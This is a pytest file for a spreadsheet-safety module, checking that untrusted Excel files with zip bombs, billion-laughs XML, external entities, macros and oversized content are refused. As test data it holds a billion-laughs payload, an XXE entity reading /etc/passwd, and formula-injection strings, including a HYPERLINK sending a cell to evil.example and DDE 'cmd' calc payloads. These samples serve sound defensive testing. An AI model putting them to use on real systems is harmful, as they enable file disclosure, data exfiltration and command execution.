"""Untrusted files: size and zip limits, XML bombs and external entities, macros, formula injection,
lock files, atomic writes with a backup."""

from __future__ import annotations

import io
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from defusedxml import DefusedXmlException, ElementTree

from xl_ecom.ooxml import safeio

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n' for i in range(1, 10))
    + "]>\n"
    f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    "</sheetData></worksheet>"
)

EXTERNAL_ENTITY = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    "</sheetData></worksheet>"
)


def _plain_xlsx(path: Path, text: str = "x") -> Path:
    wb = openpyxl.Workbook()
    wb.active["A1"] = text
    wb.active["B1"] = 5
    wb.save(path)
    return path


def _replace_member(src: Path, dst: Path, member: str, data: bytes, extra: dict | None = None) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, data if info.filename == member else zin.read(info.filename))
        for name, content in (extra or {}).items():
            zout.writestr(name, content)
    return dst


def _with_external_entity(src: Path, dst: Path) -> Path:
    return _replace_member(src, dst, "xl/worksheets/sheet1.xml", EXTERNAL_ENTITY.encode())


# --- XML bombs ----------------------------------------------------------------------------------


def test_billion_laughs_is_refused_with_a_chinese_message(tmp_path):
    bomb = _replace_member(_plain_xlsx(tmp_path / "a.xlsx"), tmp_path / "寿县.xlsx", "xl/worksheets/sheet1.xml", BILLION_LAUGHS.encode())
    with pytest.raises(safeio.UntrustedFileError) as exc:
        safeio.open_untrusted(bomb)
    message = str(exc.value)
    assert "寿县.xlsx" in message and "xl/worksheets/sheet1.xml" in message
    assert "DTD" in message and "拒绝打开" in message


def test_external_entity_is_refused(tmp_path):
    bad = _with_external_entity(_plain_xlsx(tmp_path / "a.xlsx"), tmp_path / "凤台县.xlsx")
    with pytest.raises(safeio.UntrustedFileError) as exc:
        safeio.open_untrusted(bad)
    assert "xl/worksheets/sheet1.xml" in str(exc.value) and "外部实体" in str(exc.value)


def test_openpyxl_parses_through_defusedxml_as_second_line(tmp_path, monkeypatch):
    """Without the prolog scan the bomb still never expands: openpyxl uses defusedxml, and the
    refusal is still one Chinese sentence."""
    bomb = _replace_member(_plain_xlsx(tmp_path / "a.xlsx"), tmp_path / "b.xlsx", "xl/worksheets/sheet1.xml", BILLION_LAUGHS.encode())
    xxe = _with_external_entity(_plain_xlsx(tmp_path / "c.xlsx"), tmp_path / "d.xlsx")
    for bad in (bomb, xxe):
        with pytest.raises(ValueError) as exc:
            openpyxl.load_workbook(bad)
        assert isinstance(exc.value.__cause__, DefusedXmlException)
    monkeypatch.setattr(safeio, "check_xml_prolog", lambda *a: None)
    for bad in (bomb, xxe):
        with pytest.raises(safeio.UntrustedFileError) as exc:
            safeio.open_untrusted(bad)
        assert "被禁止的 XML 结构" in str(exc.value) and bad.name in str(exc.value)


# --- zip bombs, sizes, other containers ---------------------------------------------------------------


def test_zip_bomb_by_compression_ratio_is_refused(tmp_path):
    src = _plain_xlsx(tmp_path / "a.xlsx")
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("xl/media/image1.bin", "w", force_zip64=True) as fh:
            block = b"\0" * (1024 * 1024)
            for _ in range(64):
                fh.write(block)
    assert bomb.stat().st_size < 1024 * 1024  # 64 MB inflated from well under 1 MB
    with pytest.raises(safeio.UntrustedFileError) as exc:
        safeio.open_untrusted(bomb)
    assert "压缩比" in str(exc.value) and "压缩炸弹" in str(exc.value) and "xl/media/image1.bin" in str(exc.value)


def test_too_many_members_is_refused(tmp_path):
    src = _plain_xlsx(tmp_path / "a.xlsx")
    many = {f"xl/media/m{i}.bin": b"" for i in range(safeio.MAX_MEMBERS)}
    bad = _replace_member(src, tmp_path / "many.xlsx", "", b"", many)
    with pytest.raises(safeio.UntrustedFileError) as exc:
        safeio.open_untrusted(bad)
    assert "部件" in str(exc.value) and str(safeio.MAX_MEMBERS) in str(exc.value)


def test_total_uncompressed_size_is_limited(tmp_path, monkeypatch):
    src = _plain_xlsx(tmp_path / "a.xlsx")
    bad = _replace_member(src, tmp_path / "big.xlsx", "", b"", {"xl/media/a.bin": os.urandom(300_000)})
    monkeypatch.setattr(safeio, "MAX_TOTAL_UNCOMPRESSED", 200_000)
    with pytest.raises(safeio.UntrustedFileError) as exc:
        safeio.open_untrusted(bad)
    assert "解压后总大小超过" in str(exc.value)


def test_oversized_file_is_refused_before_reading(tmp_path):
    big = _plain_xlsx(tmp_path / "大通区.xlsx")
    with open(big, "r+b") as fh:
        fh.truncate(safeio.MAX_FILE_BYTES + 1)
    with pytest.raises(safeio.UntrustedFileError) as exc:
        safeio.open_untrusted(big)
    assert "大通区.xlsx" in str(exc.value) and "超过上限50.0MB" in str(exc.value)


def test_not_a_workbook_and_old_xls(tmp_path):
    text = tmp_path / "a.xlsx"
    text.write_text("hello")
    with pytest.raises(safeio.UntrustedFileError, match="不是 Excel 工作簿"):
        safeio.open_untrusted(text)
    ole = tmp_path / "b.xlsx"
    ole.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
    with pytest.raises(safeio.UntrustedFileError, match="旧版 .xls"):
        safeio.open_untrusted(ole)
    broken = tmp_path / "c.xlsx"
    broken.write_bytes(_plain_xlsx(tmp_path / "d.xlsx").read_bytes()[:300])
    with pytest.raises(safeio.UntrustedFileError):
        safeio.open_untrusted(broken)


# --- macros and formulas -----------------------------------------------------------------------------


def test_xlsm_macros_are_not_loaded_and_are_reported(tmp_path):
    from xl_ecom.ooxml import xlsm

    buf = io.BytesIO()
    wb = openpyxl.Workbook()
    wb.active["A1"] = "数据"
    wb.save(buf)
    path = tmp_path / "county.xlsm"
    path.write_bytes(xlsm.build_xlsm(buf.getvalue()))
    with zipfile.ZipFile(path) as z:
        assert "xl/vbaProject.bin" in z.namelist()
    opened = safeio.open_untrusted(path)
    assert opened.vba_archive is None  # the VBA project is not even read
    assert opened.active["A1"].value == "数据"
    report = opened.untrusted_report
    assert report.macros_ignored
    assert "xl/vbaProject.bin" in report.ignored_parts and "customUI/customUI14.xml" in report.ignored_parts
    assert any("宏（VBA 工程）" in n and "未运行" in n for n in report.notes)


def test_formulas_are_listed_and_values_are_cached_only(tmp_path):
    wb = openpyxl.Workbook()
    wb.active["A1"] = 3
    wb.active["A2"] = "=A1*2"
    path = tmp_path / "f.xlsx"
    wb.save(path)
    opened = safeio.open_untrusted(path)
    assert opened.active["A2"].value is None  # no cached value: nothing computed from the file
    assert opened.untrusted_report.formulas == {"Sheet": {"A2": "=A1*2"}}


# --- formula injection --------------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _parsed_cells(sheet_xml: bytes, shared_xml: str) -> dict[str, dict]:
    """Each cell of a saved sheet as the XML has it: type, formula, text, style."""
    ns = {"m": MAIN_NS}
    shared = []
    if shared_xml:
        for si in ElementTree.fromstring(shared_xml).findall("m:si", ns):
            shared.append("".join(t.text or "" for t in si.iter(f"{{{MAIN_NS}}}t")))
    out = {}
    for c in ElementTree.fromstring(sheet_xml).iter(f"{{{MAIN_NS}}}c"):
        f = c.find("m:f", ns)
        kind = c.get("t")
        if kind == "inlineStr":
            text = "".join(t.text or "" for t in c.iter(f"{{{MAIN_NS}}}t"))
        elif kind == "s":
            text = shared[int(c.find("m:v", ns).text)]
        else:
            text = None
        out[c.get("r")] = {"type": kind, "formula": None if f is None else f.text, "text": text, "style": c.get("s", "0")}
    return out


def test_formula_injection_is_stored_as_text_in_the_saved_xml(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for i, text in enumerate(INJECTIONS, start=1):
        assert safeio.write_cell_value(ws.cell(row=i, column=1), text) == text
    ws.cell(row=1, column=2).value = "=1+1"  # the control: openpyxl's own assignment makes a formula
    path = tmp_path / "out.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
        styles = z.read("xl/styles.xml").decode("utf-8")
        shared = z.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in z.namelist() else ""
    cells = _parsed_cells(sheet, shared)
    assert cells["B1"]["formula"] == "1+1"  # the test can tell a formula from text
    xfs = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", styles.split("<cellXfs")[1], re.S)
    for i, text in enumerate(INJECTIONS, start=1):
        cell = cells[f"A{i}"]
        assert cell["formula"] is None, cell
        assert cell["type"] in ("inlineStr", "s"), cell
        assert cell["text"] in (text, text.replace("\r", "\n"))  # a raw CR in XML reads back as LF
        assert 'quotePrefix="1"' in xfs[int(cell["style"])]
    back = openpyxl.load_workbook(path)
    assert [back.active.cell(row=i, column=1).data_type for i in range(1, len(INJECTIONS) + 1)] == ["s"] * len(INJECTIONS)
    assert back.active["A1"].value == INJECTIONS[0]


def test_plain_text_and_numbers_are_unchanged():
    wb = openpyxl.Workbook()
    ws = wb.active
    safeio.write_cell_value(ws["A1"], "寿县电商产业园")
    safeio.write_cell_value(ws["A2"], 1234.5)
    safeio.write_cell_value(ws["A3"], None)
    safeio.write_cell_value(ws["A4"], "a\x01b")
    assert ws["A1"].value == "寿县电商产业园" and not ws["A1"].quotePrefix
    assert ws["A2"].value == 1234.5 and ws["A2"].data_type == "n"
    assert ws["A3"].value is None
    assert ws["A4"].value == "ab"


def test_safe_text():
    assert safeio.safe_text("=1+1") == "'=1+1"
    assert safeio.safe_text("@SUM(A1)") == "'@SUM(A1)"
    assert safeio.safe_text("  -1") == "'  -1"
    assert safeio.safe_text("正常文本") == "正常文本"
    assert safeio.safe_text(-5) == -5
    assert safeio.safe_text(None) is None


# --- lock files, atomic write, backup ---------------------------------------------------------------


def test_lock_file_refuses(tmp_path):
    target = tmp_path / "目标任务分解表.xlsm"
    target.write_bytes(b"old")
    (tmp_path / "~$目标任务分解表.xlsm").write_bytes(b"owner")
    with pytest.raises(safeio.FileBusyError) as exc:
        safeio.write_atomically(target, b"new")
    assert "正在被 Excel 或 WPS 打开" in str(exc.value) and "~$目标任务分解表.xlsm" in str(exc.value)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir() if "备份" in p.name] == []


def test_lock_file_with_shortened_name(tmp_path):
    target = tmp_path / "目标任务分解表.xlsm"
    (tmp_path / "~$任务分解表.xlsm").write_bytes(b"owner")
    with pytest.raises(safeio.FileBusyError):
        safeio.ensure_not_open(target)


def test_atomic_write_keeps_a_backup(tmp_path):
    target = tmp_path / "book.xlsm"
    target.write_bytes(b"version 1")
    backup = safeio.write_atomically(target, b"version 2")
    assert target.read_bytes() == b"version 2"
    assert backup is not None and backup.read_bytes() == b"version 1" and backup.parent == tmp_path
    assert backup.name.startswith("book.备份") and backup.suffix == ".xlsm"
    second = safeio.write_atomically(target, b"version 3")
    assert second != backup and second.read_bytes() == b"version 2" and backup.read_bytes() == b"version 1"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_temporaries_a_killed_writer_left_are_removed_by_the_next_write(tmp_path):
    """A writer killed between mkstemp and rename leaves its temporary file; the next write on this
    computer removes it (its process is gone) but keeps a live writer's and, from another computer,
    one younger than a day."""
    import subprocess
    import sys
    import time

    target = tmp_path / "book.xlsm"
    target.write_bytes(b"version 1")
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    host = safeio._host_tag()
    left = tmp_path / f"{safeio.TEMP_PREFIX}{host}-{int(dead.stdout)}-abc.xlsm.tmp"
    alive = tmp_path / f"{safeio.TEMP_PREFIX}{host}-{os.getpid()}-def.xlsm.tmp"
    other = "0" * 8 if host != "0" * 8 else "1" * 8
    foreign_young = tmp_path / f"{safeio.TEMP_PREFIX}{other}-1-ghi.xlsm.tmp"
    foreign_old = tmp_path / f"{safeio.TEMP_PREFIX}{other}-2-jkl.xlsm.tmp"
    unrelated = tmp_path / "notes.tmp"
    for f in (left, alive, foreign_young, foreign_old, unrelated):
        f.write_bytes(b"partial")
    old = time.time() - 2 * 86400
    os.utime(foreign_old, (old, old))
    safeio.write_atomically(target, b"version 2", backup=False)
    assert target.read_bytes() == b"version 2"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [target.name, alive.name, foreign_young.name, unrelated.name])


def test_a_backup_is_written_whole_or_not_at_all(tmp_path):
    """The backup goes through a temporary file and a rename too: with file writes capped below the
    backup's size (RLIMIT_FSIZE, as a full disk) neither a truncated backup nor a temporary file is
    left, and the workbook is as it was."""
    import subprocess
    import sys

    target = tmp_path / "book.xlsm"
    before = os.urandom(200_000)
    target.write_bytes(before)
    child = (
        "import resource, signal, sys\n"
        "from xl_ecom.ooxml import safeio\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))\n"
        "try:\n"
        "    safeio.write_atomically(sys.argv[1], b'small')\n"
        "except OSError as exc:\n"
        "    print('refused', exc.errno)\n"
    )
    done = subprocess.run([sys.executable, "-c", child, str(target)], capture_output=True, text=True, timeout=120)
    assert done.stdout.startswith("refused"), done.stdout + done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]
    assert target.read_bytes() == before


def test_shared_formulas_as_excel_writes_them(tmp_path):
    """Excel stores a filled-down formula once (shared); every cell is listed with its own formula,
    and values are Excel's cached results."""
    src = _plain_xlsx(tmp_path / "a.xlsx")
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN_NS}"><sheetData>'
        '<row r="1"><c r="A1"><v>3</v></c><c r="B1"><f t="shared" ref="B1:B3" si="0">A1*2</f><v>6</v></c></row>'
        '<row r="2"><c r="A2"><v>4</v></c><c r="B2"><f t="shared" si="0"/><v>8</v></c></row>'
        '<row r="3"><c r="A3"><v>5</v></c><c r="B3"><f t="shared" si="0"/></c></row>'
        "</sheetData></worksheet>"
    )
    path = _replace_member(src, tmp_path / "shared.xlsx", "xl/worksheets/sheet1.xml", sheet.encode())
    wb = safeio.open_untrusted(path)
    ws = wb.active
    assert [ws[f"B{r}"].value for r in (1, 2, 3)] == [6, 8, None]
    assert wb.untrusted_report.formulas == {"Sheet": {"B1": "=A1*2", "B2": "=A2*2", "B3": "=A3*2"}}
    # collect reads the input sheets' formulas with their values, in one pass: the same cells
    from xl_ecom.ooxml.package import Package

    found: dict = {}
    assert Package(path.read_bytes()).rows("Sheet", 1, 2, data_only=True, formulas=found) == [[3, 6], [4, 8], [5, None]]
    assert found == wb.untrusted_report.formulas["Sheet"]


@pytest.mark.parametrize("member", ["xl/workbook.xml", "[Content_Types].xml", "xl/styles.xml", "_rels/.rels", "docProps/core.xml"])
def test_a_dtd_in_any_part_is_refused(tmp_path, member):
    """openpyxl parses these parts with lxml when it is installed (no defusedxml): the scan refuses them."""
    src = _plain_xlsx(tmp_path / "a.xlsx")
    with zipfile.ZipFile(src) as z:
        data = z.read(member)
    root = re.search(rb"<(?![?!])", data).start()
    dtd = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    bad = _replace_member(src, tmp_path / "b.xlsx", member, data[:root] + dtd + data[root:])
    with pytest.raises(safeio.UntrustedFileError) as exc:
        safeio.open_untrusted(bad)
    assert member in str(exc.value) and "DTD" in str(exc.value)


def test_a_dtd_in_a_part_not_named_xml_is_refused(tmp_path):
    """openpyxl follows relationships whatever the target is called: the worksheet moved to a
    '.dat' part (relationship and content type updated) is still scanned."""
    src = _plain_xlsx(tmp_path / "a.xlsx")
    renamed = tmp_path / "b.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(renamed, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            name = info.filename
            if name == "xl/worksheets/sheet1.xml":
                name, data = "xl/worksheets/sheet1.dat", BILLION_LAUGHS.encode()
            elif name in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
                data = data.replace(b"sheet1.xml", b"sheet1.dat")
            zout.writestr(name, data)
    with pytest.raises(safeio.UntrustedFileError) as exc:
        safeio.open_untrusted(renamed)
    assert "xl/worksheets/sheet1.dat" in str(exc.value) and "DTD" in str(exc.value)
